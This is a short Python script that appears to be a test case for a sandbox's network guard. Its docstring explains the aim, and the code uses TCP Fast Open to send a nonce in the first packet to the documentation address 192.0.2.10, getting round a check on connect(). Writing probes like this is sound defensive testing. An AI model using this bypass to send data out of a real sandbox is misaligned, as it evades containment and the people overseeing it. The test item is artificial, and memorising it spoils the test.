"""Sends data within the opening packet, round a guard of the connect call.

family: network
arguments: {nonce}
judge: hit outside {nonce}
trace: 192.0.2.10, fast open
"""

import signal
import socket
import sys

MSG_FASTOPEN = 0x20000000
signal.alarm(5)
with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
    print(sock.sendto(sys.argv[1].encode(), MSG_FASTOPEN, ("192.0.2.10", 443)))
    print(sock.recv(64))
